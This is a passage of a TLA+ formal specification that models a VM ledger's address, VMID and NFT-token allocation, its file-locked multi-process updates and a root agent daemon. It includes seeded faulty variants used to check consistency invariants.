---- MODULE Spec2Model ----
(***************************************************************************)
(* blockhost-common: the VM ledger (blockhost/vm_db.py), the root agent    *)
(* daemon (root-agent/blockhost_root_agent.py) and its action plugins      *)
(* (root-agent-actions/*.py).                                              *)
(*                                                                         *)
(* Conventions of the model                                                *)
(*   - a Python dict is a function; a missing key is a key outside DOMAIN  *)
(*   - None and the empty string of an address are the empty tuple <<>>    *)
(*   - an IPv4 address "a.b.c.i" is the pair <<"a.b.c", i>>                *)
(*   - a datetime is a number of days; its isoformat() string is the pair  *)
(*     <<days, "+00:00">>                                                  *)
(*   - a mutator is an operator from a ledger to [db, result, error];      *)
(*     error = "" means that it returned normally                          *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    db,        \* the ledger content (the JSON document of the data file)
    ret,       \* what the last ledger operation returned or raised
    now,       \* datetime.now(timezone.utc), in days
    fields,    \* self.fields, the configured field-name mapping
    issued,    \* what the callers were handed: the last VMID, and the IPv4
               \* addresses handed out since the last release
    stub,      \* a second ledger that is handed the same calls (a
               \* MockVMDatabase, or a ledger with the default fields) and
               \* what its last call gave
    \* the file-backed ledger shared by several processes
    pc,        \* where each process is in _atomic_update or _read_db
    local,     \* each process's local variables
    lock,      \* the holder of LOCK_EX on the sidecar lock file
    inodes,    \* the files of the ledger directory as the processes see them
    dataInode, \* the file that the name db_file denotes
    disk,      \* what of each file has reached the disk
    dirDisk,   \* the file that db_file denotes on the disk
    committed, \* the documents renamed over db_file so far, and the seed
    returns,   \* what the completed calls returned
    calls,     \* the number of calls each process has made
    crashed,   \* the machine went down
    \* the root agent daemon
    daemon,    \* where main() is, and the exit code of the process
    sock,      \* the socket file /run/blockhost/root-agent.sock
    sys,       \* the system around the daemon: its uid, whether the group
               \* blockhost exists, the file whose next write fails
    frame,     \* what the client of the connection handled last sent
    conn,      \* what the daemon did on that connection, in order
    request,   \* the message read from that connection
    response,  \* the reply written to that connection
    runs,      \* the argv vectors handed to _run for that request, in order
    child,     \* what became of the child process of that request
    raised,    \* the exception that escaped the handler of that request
    secret,    \* the private key that cast printed for that request
    log,       \* the lines logged for that request
    keyfiles,  \* the wallet names with a key file in /etc/blockhost
    addressbook, \* the content of /etc/blockhost/addressbook.json
    abfile,    \* that file is absent, whole or truncated
    perms,     \* mode, owner and group of the files of /etc/blockhost
    \* the event loop of the daemon and the tasks of its connections
    tasks,     \* where the task of each connection is, with its times
    loop,      \* the connection whose task holds the thread of the loop
    clock,     \* the time, in seconds
    \* a process that uses blockhost.root_agent
    client     \* where its call() is, its socket and what call() ended with

ledgerVars == <<db, ret, now, fields, issued, stub>>
fileVars == <<pc, local, lock, inodes, dataInode, disk, dirDisk, committed,
              returns, calls, crashed>>
connVars == <<frame, conn, request, response, runs, child, raised, secret,
              log>>
etcVars == <<keyfiles, addressbook, abfile, perms>>
loopVars == <<tasks, loop, clock>>
clientVars == <<client>>
agentVars == <<daemon, sock, sys, connVars, etcVars, loopVars, clientVars>>

(***************************************************************************)
(* Bounds and configuration                                                *)
(***************************************************************************)
PoolStart == 200
PoolEnd == 201
Pool6Start == 2
Pool6End == 2
VmidStart == 100
VmidEnd == 101
MaxTokenId == 1
MaxDays == 2

Names == {"web-001", "web-002"}
NetworkPrefix == "192.168.122"
Ipv6Base == "fd00::"
None == <<>>

DEFAULT_FIELDS ==
    [vm_name |-> "vm_name", vmid |-> "vmid", ip_address |-> "ip_address",
     expires_at |-> "expires_at", owner |-> "owner", status |-> "status",
     created_at |-> "created_at"]

(***************************************************************************)
(* Python helpers                                                          *)
(***************************************************************************)
\* d[k] = v on a dict
Put(d, k, v) == [x \in (DOMAIN d) \cup {k} |-> IF x = k THEN v ELSE d[x]]

\* del d[k]
Del(d, k) == [x \in (DOMAIN d) \ {k} |-> d[x]]

\* x in list
InList(x, list) == \E i \in 1..Len(list) : list[i] = x

\* list.remove(x): removes the first occurrence
RECURSIVE ListRemove(_, _)
ListRemove(list, x) ==
    IF list = <<>> THEN <<>>
    ELSE IF Head(list) = x THEN Tail(list)
    ELSE <<Head(list)>> \o ListRemove(Tail(list), x)

ListSet(list) == {list[i] : i \in 1..Len(list)}

\* datetime.isoformat() of an aware UTC datetime, and datetime.fromisoformat()
isoformat(t) == <<t, "+00:00">>
fromisoformat(s) == s[1]

\* f"{network_prefix}.{i}"
Ipv4(i) == <<NetworkPrefix, i>>
\* str(ipaddress.IPv6Address(base + i))
Ipv6(i) == <<Ipv6Base, i>>

Ok(d, r) == [db |-> d, result |-> r, error |-> ""]
Raise(d, e) == [db |-> d, result |-> None, error |-> e]

(***************************************************************************)
(* VMDatabaseBase: the mutators                                            *)
(***************************************************************************)
\* the record that register_vm builds
VmRecord(f, name, vmid, ip, ipv6, expiry_days, t) ==
    LET vm0 == (f.vm_name :> name)
        vm1 == Put(vm0, f.vmid, vmid)
        vm2 == Put(vm1, f.ip_address, ip)
        vm3 == Put(vm2, "ipv6_address", ipv6)
        vm4 == Put(vm3, f.expires_at, isoformat(t + expiry_days))
        vm5 == Put(vm4, f.owner, "")
        vm6 == Put(vm5, f.status, "active")
        vm7 == Put(vm6, f.created_at, isoformat(t))
        vm8 == Put(vm7, "purpose", "")
    IN Put(vm8, "wallet_address", None)

\* register_vm without the test of the name against db["vms"]
register_vm_mutator_overwrite(d, f, name, vmid, ip, ipv6, expiry_days, t) ==
    LET vm == VmRecord(f, name, vmid, ip, ipv6, expiry_days, t)
        ips == IF InList(ip, d.allocated_ips) THEN d.allocated_ips
               ELSE Append(d.allocated_ips, ip)
        nxt == IF vmid >= d.next_vmid THEN vmid + 1 ELSE d.next_vmid
    IN Ok([d EXCEPT !.vms = Put(d.vms, name, vm), !.allocated_ips = ips,
                    !.next_vmid = nxt], vm)

\* register_vm that stores vmid + 1 in next_vmid whatever next_vmid holds
register_vm_mutator_sets_next(d, f, name, vmid, ip, ipv6, expiry_days, t) ==
    IF name \in DOMAIN d.vms THEN Raise(d, "VM already exists")
    ELSE LET vm == VmRecord(f, name, vmid, ip, ipv6, expiry_days, t)
             ips == IF InList(ip, d.allocated_ips) THEN d.allocated_ips
                    ELSE Append(d.allocated_ips, ip)
         IN Ok([d EXCEPT !.vms = Put(d.vms, name, vm), !.allocated_ips = ips,
                         !.next_vmid = vmid + 1], vm)

register_vm_mutator(d, f, name, vmid, ip, ipv6, expiry_days, t) ==
    IF name \in DOMAIN d.vms THEN Raise(d, "VM already exists")
    ELSE
      LET vm0 == (f.vm_name :> name)
          vm1 == Put(vm0, f.vmid, vmid)
          vm2 == Put(vm1, f.ip_address, ip)
          vm3 == Put(vm2, "ipv6_address", ipv6)
          vm4 == Put(vm3, f.expires_at, isoformat(t + expiry_days))
          vm5 == Put(vm4, f.owner, "")
          vm6 == Put(vm5, f.status, "active")
          vm7 == Put(vm6, f.created_at, isoformat(t))
          vm8 == Put(vm7, "purpose", "")
          vm  == Put(vm8, "wallet_address", None)
          ips == IF InList(ip, d.allocated_ips) THEN d.allocated_ips
                 ELSE Append(d.allocated_ips, ip)
          ip6 == IF ipv6 # None /\ ~InList(ipv6, d.allocated_ipv6)
                 THEN Append(d.allocated_ipv6, ipv6) ELSE d.allocated_ipv6
          nxt == IF vmid >= d.next_vmid THEN vmid + 1 ELSE d.next_vmid
      IN Ok([d EXCEPT !.vms = Put(d.vms, name, vm), !.allocated_ips = ips,
                      !.allocated_ipv6 = ip6, !.next_vmid = nxt], vm)

mark_suspended_mutator(d, name, t) ==
    IF name \notin DOMAIN d.vms THEN Raise(d, "VM not found")
    ELSE LET vm == Put(Put(d.vms[name], "status", "suspended"),
                       "suspended_at", isoformat(t))
         IN Ok([d EXCEPT !.vms = Put(d.vms, name, vm)], None)

\* mark_active without the deletion of suspended_at
mark_active_mutator_keeps(d, name, new_expiry) ==
    IF name \notin DOMAIN d.vms THEN Raise(d, "VM not found")
    ELSE LET vm1 == Put(d.vms[name], "status", "active")
             vm  == IF new_expiry # None
                    THEN Put(vm1, "expires_at", isoformat(new_expiry[1]))
                    ELSE vm1
         IN Ok([d EXCEPT !.vms = Put(d.vms, name, vm)], None)

mark_active_mutator(d, name, new_expiry) ==
    IF name \notin DOMAIN d.vms THEN Raise(d, "VM not found")
    ELSE LET vm1 == Put(d.vms[name], "status", "active")
             vm2 == IF "suspended_at" \in DOMAIN vm1
                    THEN Del(vm1, "suspended_at") ELSE vm1
             vm  == IF new_expiry # None
                    THEN Put(vm2, "expires_at", isoformat(new_expiry[1]))
                    ELSE vm2
         IN Ok([d EXCEPT !.vms = Put(d.vms, name, vm)], None)

mark_destroyed_mutator(d, name, t) ==
    IF name \notin DOMAIN d.vms THEN Raise(d, "VM not found")
    ELSE LET vm == Put(Put(d.vms[name], "status", "destroyed"),
                       "destroyed_at", isoformat(t))
             ip == IF "ip_address" \in DOMAIN vm THEN vm["ip_address"] ELSE None
             ipv6 == IF "ipv6_address" \in DOMAIN vm
                     THEN vm["ipv6_address"] ELSE None
             ips == IF ip # None /\ InList(ip, d.allocated_ips)
                    THEN ListRemove(d.allocated_ips, ip) ELSE d.allocated_ips
             ip6 == IF ipv6 # None /\ InList(ipv6, d.allocated_ipv6)
                    THEN ListRemove(d.allocated_ipv6, ipv6)
                    ELSE d.allocated_ipv6
         IN Ok([d EXCEPT !.vms = Put(d.vms, name, vm), !.allocated_ips = ips,
                         !.allocated_ipv6 = ip6], None)

extend_expiry_mutator(d, name, days) ==
    IF name \notin DOMAIN d.vms THEN Raise(d, "VM not found")
    ELSE IF "expires_at" \notin DOMAIN d.vms[name]
    THEN Raise(d, "KeyError: 'expires_at'")
    ELSE LET vm == d.vms[name]
             new_expiry == fromisoformat(vm["expires_at"]) + days
         IN Ok([d EXCEPT !.vms =
                   Put(d.vms, name, Put(vm, "expires_at", isoformat(new_expiry)))],
               None)

\* the last index among the free ones
LastFree(free) ==
    IF free = {} THEN None
    ELSE <<CHOOSE i \in free : \A j \in free : i >= j>>

\* for i in range(start, end + 1): the first index among the free ones
FirstFree(free) ==
    IF free = {} THEN None
    ELSE <<CHOOSE i \in free : \A j \in free : i <= j>>

allocate_ip_mutator(d) ==
    LET i == FirstFree({j \in PoolStart..PoolEnd :
                           ~InList(Ipv4(j), d.allocated_ips)})
    IN IF i = None THEN Ok(d, None)
       ELSE Ok([d EXCEPT !.allocated_ips = Append(@, Ipv4(i[1]))], Ipv4(i[1]))

allocate_ipv6_mutator(d) ==
    LET i == FirstFree({j \in Pool6Start..Pool6End :
                           ~InList(Ipv6(j), d.allocated_ipv6)})
    IN IF i = None THEN Ok(d, None)
       ELSE Ok([d EXCEPT !.allocated_ipv6 = Append(@, Ipv6(i[1]))], Ipv6(i[1]))

release_ip_mutator(d, ip) ==
    IF InList(ip, d.allocated_ips)
    THEN Ok([d EXCEPT !.allocated_ips = ListRemove(@, ip)], None)
    ELSE Ok(d, None)

release_ipv6_mutator(d, ipv6) ==
    IF InList(ipv6, d.allocated_ipv6)
    THEN Ok([d EXCEPT !.allocated_ipv6 = ListRemove(@, ipv6)], None)
    ELSE Ok(d, None)

\* allocate_vmid that leaves next_vmid as it is
allocate_vmid_mutator_no_increment(d) ==
    IF d.next_vmid > VmidEnd THEN Raise(d, "VMID range exhausted")
    ELSE Ok(d, <<d.next_vmid>>)

allocate_vmid_mutator(d) ==
    IF d.next_vmid > VmidEnd THEN Raise(d, "VMID range exhausted")
    ELSE Ok([d EXCEPT !.next_vmid = d.next_vmid + 1], <<d.next_vmid>>)

\* str(n) for n >= 0, as the sequence of its decimal digits; int(s) reads it back
Digit(k) == CASE k = 0 -> "0" [] k = 1 -> "1" [] k = 2 -> "2" [] k = 3 -> "3"
              [] k = 4 -> "4" [] k = 5 -> "5" [] k = 6 -> "6" [] k = 7 -> "7"
              [] k = 8 -> "8" [] k = 9 -> "9"

DigitVal(c) == CHOOSE k \in 0..9 : Digit(k) = c

RECURSIVE Str(_)
Str(n) == IF n < 10 THEN <<Digit(n)>> ELSE Str(n \div 10) \o <<Digit(n % 10)>>

RECURSIVE ParseInt(_)
ParseInt(s) ==
    IF Len(s) = 1 THEN DigitVal(s[1])
    ELSE 10 * ParseInt(SubSeq(s, 1, Len(s) - 1)) + DigitVal(s[Len(s)])

SetMax(S) == CHOOSE m \in S : \A x \in S : x <= m

(***************************************************************************)
(* VMDatabaseBase: the NFT token mutators                                  *)
(***************************************************************************)
\* reserve_nft_token_id without the test of the status of an existing record
reserve_nft_token_id_mutator_overwrite(d, vm_name, token_id, t) ==
    LET reserved == d.reserved_nft_tokens
        tid == IF token_id = None
               THEN SetMax({ParseInt(k) : k \in DOMAIN reserved} \cup {0 - 1}) + 1
               ELSE token_id[1]
    IN Ok([d EXCEPT !.reserved_nft_tokens =
              Put(reserved, Str(tid),
                  [vm_name |-> vm_name, status |-> "reserved",
                   reserved_at |-> isoformat(t)])],
          <<tid>>)

reserve_nft_token_id_mutator(d, vm_name, token_id, t) ==
    LET reserved == d.reserved_nft_tokens
        tid == IF token_id = None
               THEN SetMax({ParseInt(k) : k \in DOMAIN reserved} \cup {0 - 1}) + 1
               ELSE token_id[1]
        key == Str(tid)
    IN IF key \in DOMAIN reserved /\ reserved[key]["status"] # "failed"
       THEN Raise(d, "NFT token already reserved")
       ELSE Ok([d EXCEPT !.reserved_nft_tokens =
                   Put(reserved, key,
                       [vm_name |-> vm_name, status |-> "reserved",
                        reserved_at |-> isoformat(t)])],
               <<tid>>)

mark_nft_minted_mutator(d, token_id, owner_wallet, t) ==
    LET key == Str(token_id)
    IN IF key \notin DOMAIN d.reserved_nft_tokens
       THEN Raise(d, "NFT token not found")
       ELSE LET tok == Put(Put(Put(d.reserved_nft_tokens[key],
                                   "status", "minted"),
                               "owner_wallet", owner_wallet),
                           "minted_at", isoformat(t))
            IN Ok([d EXCEPT !.reserved_nft_tokens = Put(@, key, tok)], None)

mark_nft_failed_mutator(d, token_id, t) ==
    LET key == Str(token_id)
    IN IF key \notin DOMAIN d.reserved_nft_tokens
       THEN Raise(d, "NFT token not found")
       ELSE LET tok == Put(Put(d.reserved_nft_tokens[key], "status", "failed"),
                           "failed_at", isoformat(t))
            IN Ok([d EXCEPT !.reserved_nft_tokens = Put(@, key, tok)], None)

(***************************************************************************)
(* The ledger used by a single caller: _atomic_update is read, mutate,     *)
(* write; a mutator that raises leaves the file as it was.                 *)
(***************************************************************************)
InitialDb ==
    [vms |-> <<>>, next_vmid |-> VmidStart, allocated_ips |-> <<>>,
     allocated_ipv6 |-> <<>>, reserved_nft_tokens |-> <<>>]

\* what the callers hold after a call: allocate_vmid and allocate_ip return
\* result[0]; release_ip and mark_destroyed give addresses back
IssuedAfter(op, out) ==
    CASE op = "allocate_vmid" /\ out.error = "" ->
            [issued EXCEPT !.vmid = out.result]
      [] op = "allocate_ip" /\ out.error = "" /\ out.result # None ->
            [issued EXCEPT !.ips = @ \cup {out.result}]
      [] op \in {"release_ip", "mark_destroyed"} /\ out.error = "" ->
            [issued EXCEPT !.ips = {}]
      [] OTHER -> issued

AtomicUpdate(op, args, out) ==
    /\ db' = IF out.error = "" THEN out.db ELSE db
    /\ ret' = [op |-> op, args |-> args, result |-> out.result,
               error |-> out.error]
    /\ issued' = IssuedAfter(op, out)
    /\ UNCHANGED <<now, fields, stub>>
    /\ UNCHANGED <<fileVars, agentVars>>

IpInputs == {Ipv4(i) : i \in PoolStart..PoolEnd}
Ipv6Inputs == {None} \cup {Ipv6(i) : i \in Pool6Start..Pool6End}
VmidInputs == VmidStart..VmidEnd
TokenIds == 0..MaxTokenId

register_vm(name, vmid, ip, ipv6, expiry_days) ==
    AtomicUpdate("register_vm", <<name, vmid, ip, ipv6>>,
        register_vm_mutator(db, fields, name, vmid, ip, ipv6, expiry_days, now))

mark_suspended(name) ==
    AtomicUpdate("mark_suspended", <<name>>, mark_suspended_mutator(db, name, now))

mark_active(name, new_expiry) ==
    AtomicUpdate("mark_active", <<name>>,
                 mark_active_mutator(db, name, new_expiry))

mark_destroyed(name) ==
    AtomicUpdate("mark_destroyed", <<name>>, mark_destroyed_mutator(db, name, now))

extend_expiry(name, days) ==
    AtomicUpdate("extend_expiry", <<name, days>>,
                 extend_expiry_mutator(db, name, days))

allocate_ip == AtomicUpdate("allocate_ip", <<>>, allocate_ip_mutator(db))

allocate_ipv6 == AtomicUpdate("allocate_ipv6", <<>>, allocate_ipv6_mutator(db))

release_ip(ip) == AtomicUpdate("release_ip", <<ip>>, release_ip_mutator(db, ip))

release_ipv6(ipv6) ==
    AtomicUpdate("release_ipv6", <<ipv6>>, release_ipv6_mutator(db, ipv6))

allocate_vmid == AtomicUpdate("allocate_vmid", <<>>, allocate_vmid_mutator(db))

reserve_nft_token_id(vm_name, token_id) ==
    AtomicUpdate("reserve_nft_token_id", <<vm_name, token_id>>,
                 reserve_nft_token_id_mutator(db, vm_name, token_id, now))

mark_nft_minted(token_id) ==
    AtomicUpdate("mark_nft_minted", <<token_id>>,
                 mark_nft_minted_mutator(db, token_id, "0xowner", now))

mark_nft_failed(token_id) ==
    AtomicUpdate("mark_nft_failed", <<token_id>>,
                 mark_nft_failed_mutator(db, token_id, now))

\* time passes between operations
Tick == /\ now < MaxDays
        /\ now' = now + 1
        /\ UNCHANGED <<db, ret, fields, issued, stub>>
        /\ UNCHANGED <<fileVars, agentVars>>

InitLedger ==
    /\ db = InitialDb
    /\ ret = [op |-> "init", args |-> <<>>, result |-> None, error |-> ""]
    /\ now = 0
    /\ fields = DEFAULT_FIELDS
    /\ issued = [vmid |-> None, ips |-> {}]
    /\ stub = [db |-> InitialDb, result |-> None, error |-> ""]

(***************************************************************************)
(* VMDatabase: the ledger file shared by several processes                 *)
(***************************************************************************)
Procs == {"p1", "p2"}
Free == "free"
MaxCalls == 2

\* a file's content: nothing yet, a prefix of the JSON text of doc, or all of it
File(doc, state) == [doc |-> doc, state |-> state]

NoLocal ==
    [op |-> "", arg |-> None, db |-> InitialDb, result |-> None, error |-> "",
     tmp |-> 0, fd |-> 0]

\* the files in use: named by the directory, or open in a process
LiveInodes ==
    {dataInode, dirDisk} \cup {local[p].tmp : p \in Procs}
                        \cup {local[p].fd : p \in Procs}

\* the file that tempfile.mkstemp creates
FreshInode == CHOOSE i \in 1..(Cardinality(LiveInodes) + 1) : i \notin LiveInodes

\* files that no name and no descriptor refers to are gone
Collect(files, live) == [i \in (DOMAIN files) \cap live |-> files[i]]

InitFile ==
    /\ pc = [p \in Procs |-> "idle"]
    /\ local = [p \in Procs |-> NoLocal]
    /\ lock = Free
    /\ inodes = (1 :> File(InitialDb, "full"))
    /\ dataInode = 1
    /\ disk = (1 :> File(InitialDb, "full"))
    /\ dirDisk = 1
    /\ committed = {InitialDb}
    /\ returns = <<>>
    /\ calls = [p \in Procs |-> 0]
    /\ crashed = FALSE

\* the daemon has started and has served no connection
NoResponse == [ok |-> FALSE, error |-> "", output |-> "", address |-> ""]

NoFrame ==
    [header |-> FALSE, length |-> 0, arrived |-> 0, eof |-> FALSE,
     text |-> "", msg |-> [action |-> "", params |-> <<>>]]

\* no connection has been served
InitConn ==
    /\ frame = NoFrame
    /\ conn = <<>>
    /\ request = [action |-> "", params |-> <<>>]
    /\ response = NoResponse
    /\ runs = <<>>
    /\ child = "none"
    /\ raised = ""
    /\ secret = ""
    /\ log = <<>>

\* /etc/blockhost holds no key file and no address book
InitEtc ==
    /\ keyfiles = {}
    /\ addressbook = <<>>
    /\ abfile = "absent"
    /\ perms = <<>>

\* the connections that the event loop is followed on
Conns == {"A", "B"}

\* no client has connected and the loop waits in its selector
InitLoop ==
    /\ tasks = [c \in Conns |->
                   [pc |-> "none", work |-> 0, arrived |-> 0, answered |-> 0]]
    /\ loop = ""
    /\ clock = 0

\* the socket after bind, chown and chmod of main()
ServingSock == [exists |-> TRUE, group |-> "blockhost", mode |-> "0660"]

\* no call() has been made
NoCall ==
    [pc |-> "idle", frame |-> NoFrame, sock |-> "none",
     connected |-> FALSE, sent |-> 0,
     recvd |-> 0, raised |-> "", text |-> "", result |-> NoResponse]

InitClient == client = NoCall

InitAgent ==
    /\ InitClient
    /\ daemon = [pc |-> "serving", exit |-> 0]
    /\ sock = ServingSock
    /\ sys = [uid |-> 0, group |-> TRUE, enospc |-> ""]
    /\ InitConn
    /\ InitEtc
    /\ InitLoop

Init == InitLedger /\ InitFile /\ InitAgent

vars == <<db, ret, now, fields, issued, stub, pc, local, lock, inodes, dataInode,
          disk, dirDisk, committed, returns, calls, crashed, daemon, sock,
          sys, frame, conn, request, response, runs, child, raised, secret,
          log, keyfiles, addressbook, abfile, perms, tasks, loop, clock,
          client>>

(***************************************************************************)
(* Views of the ledger used by the properties                              *)
(***************************************************************************)
VmNames == DOMAIN db.vms
StatusOf(d, name) == d.vms[name]["status"]
IpOf(d, name) == d.vms[name]["ip_address"]
Ip6Of(d, name) == d.vms[name]["ipv6_address"]
Live(d, name) == StatusOf(d, name) \in {"active", "suspended"}

(***************************************************************************)
(* SpecAlloc: the operations that touch VM records and the address pools   *)
(***************************************************************************)
NextAlloc ==
    \/ \E n \in Names, ip \in IpInputs, ip6 \in Ipv6Inputs :
          register_vm(n, VmidStart, ip, ip6, 1)
    \/ \E n \in Names : mark_suspended(n)
    \/ \E n \in Names : mark_active(n, None)
    \/ \E n \in Names : mark_destroyed(n)
    \/ allocate_ip
    \/ \E ip \in IpInputs : release_ip(ip)
    \/ allocate_ipv6
    \/ \E ip6 \in Ipv6Inputs \ {None} : release_ipv6(ip6)

SpecAlloc == Init /\ [][NextAlloc]_vars

\* C1: every active or suspended VM has its ip_address in allocated_ips and no
\* destroyed VM has; the same for ipv6_address (when it has one) and
\* allocated_ipv6.
C1_AllocationConsistent ==
    \A n \in VmNames :
        /\ Live(db, n) => InList(IpOf(db, n), db.allocated_ips)
        /\ StatusOf(db, n) = "destroyed" => ~InList(IpOf(db, n), db.allocated_ips)
        /\ Ip6Of(db, n) # None =>
              /\ Live(db, n) => InList(Ip6Of(db, n), db.allocated_ipv6)
              /\ StatusOf(db, n) = "destroyed" =>
                    ~InList(Ip6Of(db, n), db.allocated_ipv6)

(***************************************************************************)
(* SpecRegDestroy: only register_vm and mark_destroyed, from the empty     *)
(* ledger                                                                  *)
(***************************************************************************)
NextRegDestroy ==
    \/ \E n \in Names, v \in VmidInputs, ip \in IpInputs, ip6 \in Ipv6Inputs :
          register_vm(n, v, ip, ip6, 1)
    \/ \E n \in Names : mark_destroyed(n)
    \/ Tick

SpecRegDestroy == Init /\ [][NextRegDestroy]_vars

\* C2: after any sequence of register_vm and mark_destroyed the set of
\* addresses in allocated_ips is exactly the set of the ip_address of the VMs
\* that are not destroyed.
C2_AllocatedIsLiveIps ==
    ListSet(db.allocated_ips) =
        {IpOf(db, n) : n \in {m \in VmNames : StatusOf(db, m) # "destroyed"}}

(***************************************************************************)
(* SpecStatus: the operations that write a VM record                       *)
(***************************************************************************)
NextStatus ==
    \/ \E n \in Names, ip \in IpInputs : register_vm(n, VmidStart, ip, None, 1)
    \/ \E n \in Names : mark_suspended(n)
    \/ \E n \in Names, e \in {None, <<MaxDays>>} : mark_active(n, e)
    \/ \E n \in Names : mark_destroyed(n)
    \/ \E n \in Names :
          /\ n \in VmNames
          /\ fromisoformat(db.vms[n]["expires_at"]) < MaxDays
          /\ extend_expiry(n, 1)

SpecStatus == Init /\ [][NextStatus]_vars

StatusEdges ==
    {<<"active", "suspended">>, <<"suspended", "active">>,
     <<"active", "destroyed">>, <<"suspended", "destroyed">>}

\* C3: the status of a VM changes only along active->suspended,
\* suspended->active, active->destroyed, suspended->destroyed; a destroyed VM
\* keeps status destroyed whatever operation is called.
C3_StatusDag ==
    [][\A n \in VmNames :
          StatusOf(db, n) # StatusOf(db', n) =>
              <<StatusOf(db, n), StatusOf(db', n)>> \in StatusEdges]_vars

(***************************************************************************)
(* SpecNft: the NFT token operations                                       *)
(***************************************************************************)
NextNft ==
    \/ \E n \in Names, t \in TokenIds : reserve_nft_token_id(n, <<t>>)
    \/ \E n \in Names :
          /\ \A k \in DOMAIN db.reserved_nft_tokens : ParseInt(k) < MaxTokenId
          /\ reserve_nft_token_id(n, None)
    \/ \E t \in TokenIds : mark_nft_minted(t)
    \/ \E t \in TokenIds : mark_nft_failed(t)

SpecNft == Init /\ [][NextNft]_vars

TokenEdges ==
    {<<"reserved", "minted">>, <<"reserved", "failed">>, <<"failed", "reserved">>}

\* C4: the status of a token changes only along reserved->minted,
\* reserved->failed, failed->reserved; a minted token is never changed again;
\* a record is overwritten only by a reservation of a failed token.
C4_TokenDag ==
    [][\A k \in DOMAIN db.reserved_nft_tokens :
          LET old == db.reserved_nft_tokens[k]
              new == db'.reserved_nft_tokens[k]
          IN /\ old["status"] # new["status"] =>
                    <<old["status"], new["status"]>> \in TokenEdges
             /\ old["status"] = "minted" => new = old
             /\ (new # old /\ ret'.op = "reserve_nft_token_id") =>
                    old["status"] = "failed"]_vars

(***************************************************************************)
(* VMDatabase._atomic_update, _read_db_unlocked, _write_db_unlocked and    *)
(* _read_db, one system call per step                                      *)
(***************************************************************************)
Mutate(op, arg, d) ==
    CASE op = "allocate_ip" -> allocate_ip_mutator(d)
      [] op = "release_ip" -> release_ip_mutator(d, arg)
      [] op = "allocate_vmid" -> allocate_vmid_mutator(d)
      [] op = "register_vm" ->
            register_vm_mutator(d, fields, arg, VmidStart, Ipv4(PoolStart),
                                None, 1, now)
      [] op = "mark_suspended" -> mark_suspended_mutator(d, arg, now)
      [] op = "mark_active" -> mark_active_mutator(d, arg, None)
      [] op = "mark_destroyed" -> mark_destroyed_mutator(d, arg, now)
      [] op = "extend_expiry" -> extend_expiry_mutator(d, arg, 1)
      [] op = "reserve_nft_token_id" ->
            reserve_nft_token_id_mutator(d, "web-001", <<arg>>, now)
      [] op = "mark_nft_minted" -> mark_nft_minted_mutator(d, arg, "0xowner", now)
      [] op = "mark_nft_failed" -> mark_nft_failed_mutator(d, arg, now)

SetPc(p, where) == pc' = [pc EXCEPT ![p] = where]

Returned(p, op, result, error) ==
    returns' = (<<p, calls[p]>> :>
                   [op |-> op, result |-> result, error |-> error]) @@ returns

\* a transaction that takes no lock, as MockVMDatabase._atomic_update
flock_EX_missing(p) == lock' = lock

\* fcntl.flock(lf.fileno(), fcntl.LOCK_EX): waits until nobody holds the lock
flock_EX(p) == lock = Free /\ lock' = p

\* a finally clause that leaves the lock as it is
flock_UN_missing(p) == lock' = lock

\* fcntl.flock(lf.fileno(), fcntl.LOCK_UN)
flock_UN(p) == lock' = IF lock = p THEN Free ELSE lock

\* with open(self.lock_file, "a") as lf: fcntl.flock(lf.fileno(), LOCK_EX)
TxnLock(p, op, arg) ==
    /\ ~crashed /\ pc[p] = "idle" /\ calls[p] < MaxCalls
    /\ flock_EX(p)
    /\ SetPc(p, "locked")
    /\ local' = [local EXCEPT ![p] = [NoLocal EXCEPT !.op = op, !.arg = arg]]
    /\ calls' = [calls EXCEPT ![p] = @ + 1]
    /\ UNCHANGED <<inodes, dataInode, disk, dirDisk, committed, returns, crashed>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

\* db = self._read_db_unlocked(): json.load raises on a text that is not whole
TxnRead(p) ==
    /\ ~crashed /\ pc[p] = "locked"
    /\ IF inodes[dataInode].state = "full"
       THEN /\ local' = [local EXCEPT ![p].db = inodes[dataInode].doc]
            /\ SetPc(p, "read")
       ELSE /\ local' = [local EXCEPT ![p].error = "JSONDecodeError"]
            /\ SetPc(p, "raising")
    /\ UNCHANGED <<lock, inodes, dataInode, disk, dirDisk, committed, returns,
                   calls, crashed>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

\* mutator(db)
TxnMutate(p) ==
    /\ ~crashed /\ pc[p] = "read"
    /\ LET out == Mutate(local[p].op, local[p].arg, local[p].db)
       IN IF out.error = ""
          THEN /\ local' = [local EXCEPT ![p].db = out.db,
                                         ![p].result = out.result]
               /\ SetPc(p, "mutated")
          ELSE /\ local' = [local EXCEPT ![p].error = out.error]
               /\ SetPc(p, "raising")
    /\ UNCHANGED <<lock, inodes, dataInode, disk, dirDisk, committed, returns,
                   calls, crashed>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

\* a write in place, as MockVMDatabase._write_db: open(self.db_file, "w")
\* truncates the data file
WriteInPlace(p) ==
    /\ ~crashed /\ pc[p] = "mutated"
    /\ inodes' = [inodes EXCEPT ![dataInode] = File(local[p].db, "empty")]
    /\ local' = [local EXCEPT ![p].tmp = dataInode]
    /\ SetPc(p, "tmp_open")
    /\ UNCHANGED <<lock, dataInode, disk, dirDisk, committed, returns, calls,
                   crashed>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

\* fd, tmp_path = tempfile.mkstemp(dir=..., suffix='.tmp')
WriteMkstemp(p) ==
    /\ ~crashed /\ pc[p] = "mutated"
    /\ LET i == FreshInode
       IN /\ inodes' = (i :> File(local[p].db, "empty")) @@ inodes
          /\ disk' = (i :> File(local[p].db, "empty")) @@ disk
          /\ local' = [local EXCEPT ![p].tmp = i]
    /\ SetPc(p, "tmp_open")
    /\ UNCHANGED <<lock, dataInode, dirDisk, committed, returns, calls, crashed>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

\* json.dump(data, f, indent=2, default=str): the buffer is written out in
\* pieces
WriteDump(p) ==
    /\ ~crashed /\ pc[p] = "tmp_open"
    /\ inodes' = [inodes EXCEPT ![local[p].tmp].state = "partial"]
    /\ SetPc(p, "tmp_partial")
    /\ UNCHANGED <<local, lock, dataInode, disk, dirDisk, committed, returns,
                   calls, crashed>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

\* leaving "with os.fdopen(fd, 'w') as f": the rest is written, the file is
\* closed; nothing forces it to the disk
WriteClose(p) ==
    /\ ~crashed /\ pc[p] = "tmp_partial"
